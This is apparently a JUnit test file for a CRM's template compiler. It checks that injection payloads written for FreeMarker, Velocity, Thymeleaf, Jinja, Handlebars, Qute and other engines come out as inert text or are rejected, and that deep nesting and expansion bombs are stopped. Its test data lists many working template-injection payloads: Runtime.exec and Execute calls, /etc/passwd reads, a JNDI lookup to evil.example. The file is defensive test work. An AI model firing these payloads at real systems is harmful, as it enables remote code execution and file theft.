package org.dealercrm.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What other engines did with a hostile template (FreeMarker, Velocity, liqp, Pebble, jmustache, mustache.java, Handlebars,
 * Jinjava, Thymeleaf, Qute, MessageFormat 2), tried on this one. A template of another syntax is either text, and comes out as
 * it went in, or full of mistakes, and has no output.
 */
class HostileTemplatesTest {

    /** With every private field and getter that the objects behind it have, none of which is in the schema. */
    private static final TemplateSchema SCHEMA = TemplateSchema.builder()
            .text("brand")
            .bool("member")
            .list("models", ValueType.TEXT)
            .record("store", TemplateSchema.builder().text("name").build())
            .build();

    private static final TemplateCompiler COMPILER = TemplateCompiler.over(SCHEMA);

    private static TemplateValues values(List<String> models) {
        TemplateSchema store = TemplateSchema.builder().text("name").build();
        return TemplateValues.builder(SCHEMA)
                .text("brand", "日产")
                .bool("member", true)
                .list("models", models)
                .record(
                        "store",
                        TemplateValues.builder(store).text("name", "星河").check().orElseThrow())
                .check()
                .orElseThrow();
    }

    private static String mistakes(TemplateCompiler compiler, String source) {
        return compiler.compile(source).mistakes().stream()
                .map(mistake -> mistake.line() + ":" + mistake.column() + " " + mistake.code())
                .collect(Collectors.joining("|"));
    }

    /** Their tags are not ours: the text comes out unread, in HTML as well as in text. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '¦',
            quoteCharacter = '`',
            value = {
                // FreeMarker: a system command, a file, a loop without end, memory.
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.io.File\",\"/etc/passwd\")}",
                "<#list 1.. as i>x</#list>",
                "<#macro m><@m/></#macro><@m/>",
                "${brand?api.class.protectionDomain.classLoader}",
                "[#ftl][#list 1..1000000000 as i][/#list]",
                // Velocity: reflection, a file, a loop without end.
                "#set($x='')$x.class.forName('java.lang.System').getMethod('exit',$x.class).invoke(null,0)",
                "$brand.getClass().getClassLoader()",
                "#include('/etc/passwd')#parse('/etc/passwd')",
                "#foreach($i in [1..2147483647])#foreach($j in [1..2147483647])x#end#end",
                "#macro(m)#m()#end#m()",
                "#evaluate('$x')#define($b)$b#end$b",
                // liqp, Pebble and Jinjava: statements.
                "{% include '/etc/passwd' %}",
                "{% include_relative '../../../etc/passwd' %}",
                "{% for i in (1..1000000000) %}x{% endfor %}",
                "{% capture a %}{% for i in (1..1000000) %}xxxxxxxx{% endfor %}{% endcapture %}",
                "{% for i in range(0, 2147483647) %}x{% endfor %}",
                "{% extends '/etc/passwd' %}{% import 'x' %}",
                "{% macro m() %}{% endmacro %}{% set x = 1 %}",
                // Thymeleaf: expressions, also within attributes.
                "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
                "<p th:text=\"${T(java.lang.System).exit(0)}\">x</p>",
                "<p th:utext='__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(1))}__::.x'>x</p>",
                "<p data-th-insert=\"file:///etc/passwd\">x</p>",
                // Qute.
                "{brand.getClass.getClassLoader}",
                "{#for i in 1000000000}x{/for}",
                "{#include /etc/passwd /}",
                "{inject:vertx.fileSystem}{config:property('x')}",
                // MessageFormat, ICU's and the second.
                "{0,choice,0#a|1#{0,choice,0#b}}",
                ".local $x = {$brand :java.lang.Runtime} {{}",
                "{$x :exec cmd=|id|}",
                // JSP, PHP, shell, Log4j, JavaScript.
                "<% Runtime.getRuntime().exec(\"id\"); %>",
                "<?php system('id'); ?>",
                "${jndi:ldap://evil.example/x}",
                "$(id) `id` %COMSPEC%",
            })
    void aTemplateOfAnotherSyntaxIsText(String source) {
        String rendered =
                COMPILER.compile(source.replace("{{}", "{ {}")).orElseThrow().render(values(List.of()));

        assertThat(rendered).isEqualTo(source.replace("{{}", "{ {}"));
        assertThat(COMPILER.to(OutputKind.HTML)
                        .compile("<p>" + source.replace("{{}", "{ {}").replace("<", "&lt;") + "</p>")
                        .orElseThrow()
                        .render(values(List.of())))
                .isEqualTo("<p>" + source.replace("{{}", "{ {}").replace("<", "&lt;") + "</p>");
    }

    /** Their tags are ours: whatever is not a name of the schema is a mistake with its place. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '¦',
            quoteCharacter = '`',
            value = {
                // Pebble, Jinjava, Handlebars, mustache.java, jmustache: methods, fields, reflection.
                "{{ brand.getClass() }}                              ¦ 1:18 BAD_CHARACTER",
                "{{ brand.class.forName('java.lang.Runtime') }}      ¦ 1:23 BAD_CHARACTER",
                "{{ brand.class }}                                   ¦ 1:10 UNKNOWN_VARIABLE",
                "{{brand.toString}}                                  ¦ 1:9 UNKNOWN_VARIABLE",
                "{{brand.getClass.getClassLoader}}                   ¦ 1:9 UNKNOWN_VARIABLE",
                "{{brand.hashCode}}                                  ¦ 1:9 UNKNOWN_VARIABLE",
                "{{brand.value}}                                     ¦ 1:9 UNKNOWN_VARIABLE",
                "{{brand.length}}                                    ¦ 1:9 UNKNOWN_VARIABLE",
                "{{store.slots}}                                     ¦ 1:9 UNKNOWN_VARIABLE",
                "{{store.schema}}                                    ¦ 1:9 UNKNOWN_VARIABLE",
                "{{store.name.bytes}}                                ¦ 1:14 UNKNOWN_VARIABLE",
                "{{models.0}}                                        ¦ 1:10 BAD_CHARACTER",
                "{{models.[0]}}                                      ¦ 1:10 BAD_CHARACTER",
                "{{models.length}}                                   ¦ 1:10 UNKNOWN_VARIABLE",
                "{{models.first}}                                    ¦ 1:10 UNKNOWN_VARIABLE",
                "{{this}}                                            ¦ 1:3 UNKNOWN_VARIABLE",
                "{{this.class}}                                      ¦ 1:3 UNKNOWN_VARIABLE",
                "{{../brand}}                                        ¦ 1:3 INCOMPLETE_NAME",
                "{{@root.brand}}                                     ¦ 1:3 BAD_CHARACTER",
                "{{#with brand as |x|}}{{x}}{{/with}}                ¦ 1:8 BAD_CHARACTER|1:18 MISPLACED_FORMAT|1:20 EMPTY_FORMAT|1:25 UNKNOWN_VARIABLE",
                "{{#each models}}{{this}}{{/each}}                   ¦ 1:8 BAD_CHARACTER|1:19 UNKNOWN_VARIABLE",
                "{{lookup . \"class\"}}                             ¦ 1:9 BAD_CHARACTER",
                "{{#if member}}x{{/if}}                              ¦ 1:6 BAD_CHARACTER",
                "{{''.class.mro()[1].__subclasses__()}}              ¦ 1:3 BAD_CHARACTER",
                "{{ 7*7 }}                                           ¦ 1:4 BAD_CHARACTER",
                "{{ ''.getClass().forName('javax.script.ScriptEngineManager').newInstance() }} ¦ 1:4 BAD_CHARACTER",
                "{{ cycler.__init__.__globals__.os.popen('id') }}    ¦ 1:40 BAD_CHARACTER",
                "{{= <%.exec%> =}}                                   ¦ 1:4 BAD_DELIMITERS",
                "{{constructor.constructor}}                         ¦ 1:3 UNKNOWN_VARIABLE",
                "{{__proto__}}                                       ¦ 1:3 UNKNOWN_VARIABLE",
                // Files and templates by name.
                "{{> /etc/passwd}}                                   ¦ 1:5 BAD_CHARACTER",
                "{{> ../../etc/passwd}}                              ¦ 1:5 INCOMPLETE_NAME",
                "{{> file:///etc/passwd}}                            ¦ 1:9 BAD_CHARACTER",
                "{{> passwd}}                                        ¦ 1:5 UNKNOWN_SNIPPET",
                "{{> *dynamic}}                                      ¦ 1:5 BAD_CHARACTER",
                "{{< parent}}x{{/parent}}                            ¦ 1:3 BAD_CHARACTER|1:14 UNOPENED_SECTION",
                "{{$ block}}x{{/block}}                              ¦ 1:3 BAD_CHARACTER|1:13 UNOPENED_SECTION",
                // Filters that read, write or run.
                "{{brand|file}}                                      ¦ 1:9 UNKNOWN_FORMAT",
                "{{ \"/etc/passwd\" | include }}                     ¦ 1:4 BAD_CHARACTER",
                "{{brand|exec:id}}                                   ¦ 1:9 UNKNOWN_FORMAT",
            })
    void whatIsNoNameOfTheSchemaIsAMistake(String source, String expected) {
        assertThat(mistakes(COMPILER, source)).isEqualTo(expected);
    }

    @ParameterizedTest
    @EnumSource(OutputKind.class)
    void twentyThousandSectionsWithinEachOtherAreOneMistake(OutputKind kind) {
        TemplateCompiler compiler = COMPILER.to(kind).within(new TemplateBounds(1_000_000, 32, 1_000_000));

        assertThat(mistakes(compiler, "{{#member}}".repeat(20_000) + "{{/member}}".repeat(20_000)))
                .isEqualTo("1:353 NESTING_TOO_DEEP");
    }

    @Test
    void aMillionBracesAreMistakesAndNoMore() {
        TemplateCompiler compiler = COMPILER.within(new TemplateBounds(1_000_000, 32, 1_000_000));

        assertThat(compiler.compile("{".repeat(1_000_000)).isSound()).isFalse();
        assertThat(compiler.compile("}".repeat(1_000_000)).isSound()).isTrue();
        assertThat(compiler.compile("{{!".repeat(300_000)).isSound()).isFalse();
        assertThat(compiler.compile("{{#a}}".repeat(160_000)).isSound()).isFalse();
        assertThat(compiler.compile("{{/a}}".repeat(160_000)).mistakes()).hasSize(160_000);
        assertThat(compiler.compile("{{=a b=}}".repeat(100_000)).isSound()).isFalse();
    }

    @Test
    void aSourceBeyondItsBoundIsNotEvenScanned() {
        assertThat(mistakes(COMPILER, "{{x}}".repeat(20_001))).isEqualTo("1:100001 SOURCE_TOO_LONG");
    }

    /** Ten lists of ten within each other ask for ten thousand million letters. */
    @Test
    void anOutputWithoutEndIsStoppedAtItsBound() {
        String loops = "{{#models}}".repeat(10) + "x" + "{{/models}}".repeat(10);
        Template writing = COMPILER.compile(loops).orElseThrow();
        Template silent = COMPILER.compile(loops.replace("x", "")).orElseThrow();
        TemplateValues ten = values(Collections.nCopies(10, "x"));

        assertThatThrownBy(() -> writing.render(ten)).isInstanceOf(OutputTooLongException.class);
        assertThatThrownBy(() -> silent.render(ten)).isInstanceOf(OutputTooLongException.class);
        assertThat(writing.write(ten).problems())
                .extracting(ValueProblem::kind)
                .containsExactly(ValueProblem.Kind.TOO_LONG);
    }

    /** A thousand times a thousand pieces of which none is written: no character, and yet minutes of work for each letter. */
    @ParameterizedTest
    @ValueSource(strings = {"{{^member}}x{{/member}}", "{{#member}}{{^member}}x{{/member}}{{/member}}"})
    void piecesThatAreLookedAtWithoutEndAreStopped(String piece) {
        String loops = "{{#models}}{{#models}}{{#models}}" + piece.repeat(2000) + "{{/models}}{{/models}}{{/models}}";
        Template template = COMPILER.compile(loops).orElseThrow();

        assertThat(template.write(values(Collections.nCopies(100, "x"))).problems())
                .extracting(ValueProblem::kind)
                .containsExactly(ValueProblem.Kind.TOO_LONG);
        assertThat(template.write(values(Collections.nCopies(10, "x"))).text()).contains("");
    }

    @Test
    void piecesOfSectionsAreCountedUpToTenTimesTheOutput() {
        Template template = COMPILER.within(new TemplateBounds(1000, 32, 10))
                .compile("{{#models}}" + "{{^member}}x{{/member}}".repeat(10) + "{{/models}}")
                .orElseThrow();

        assertThat(template.write(values(Collections.nCopies(10, "x"))).text()).contains("");
        assertThat(template.write(values(Collections.nCopies(11, "x"))).problems())
                .extracting(ValueProblem::kind)
                .containsExactly(ValueProblem.Kind.TOO_LONG);
    }

    /** Every unknown name is held against all names that can be seen; sections over one list do not multiply them. */
    @Test
    void unknownNamesDeepWithinSectionsTakeLinearTime() {
        TemplateSchema.Builder fields = TemplateSchema.builder();
        IntStream.range(0, 100).forEach(number -> fields.text("aFieldOfTheCar" + number));
        TemplateCompiler compiler = TemplateCompiler.over(
                TemplateSchema.builder().list("cars", fields.build()).build());
        String source = "{{#cars}}".repeat(31) + "{{aFieldOfTheCart}}".repeat(5000) + "{{/cars}}".repeat(31);

        assertThat(compiler.compile(source).mistakes())
                .hasSize(5000)
                .allMatch(mistake -> mistake.suggestion().equals(Optional.of("{{aFieldOfTheCar0}}")));
    }

    @Test
    void snippetsThatDoubleEachOtherAreStoppedAtTheirBound() {
        TemplateCompiler compiler = COMPILER.with(Snippets.of(Map.of(
                "a", "{{> b}}{{> b}}{{> b}}{{> b}}{{> b}}{{> b}}{{> b}}{{> b}}{{> b}}{{> b}}",
                "b", "{{> c}}{{> c}}{{> c}}{{> c}}{{> c}}{{> c}}{{> c}}{{> c}}{{> c}}{{> c}}",
                "c", "{{> d}}{{> d}}{{> d}}{{> d}}{{> d}}{{> d}}{{> d}}{{> d}}{{> d}}{{> d}}",
                "d", "x".repeat(1000),
                "self", "{{> self}}")));

        assertThat(compiler.compile("{{> a}}{{> a}}").mistakes())
                .extracting(Mistake::code)
                .containsExactly("EXPANSION_TOO_LONG");
        assertThat(compiler.compile("{{> self}}").mistakes())
                .extracting(Mistake::code)
                .containsExactly("RECURSIVE_SNIPPET");
    }

    /** The text of a message is no format: no other library reads what a mistake quotes. */
    @Test
    void aMistakeQuotesTheSourceAndDoesNotReadIt() {
        Mistake mistake = COMPILER.compile("{{brand%n%s$1}}").mistakes().get(0);

        assertThat(mistake.english()).isEqualTo("'%' cannot stand in a tag.");
        assertThat(mistakes(COMPILER, "{{%1$s}}")).isEqualTo("1:3 BAD_CHARACTER");
    }
}
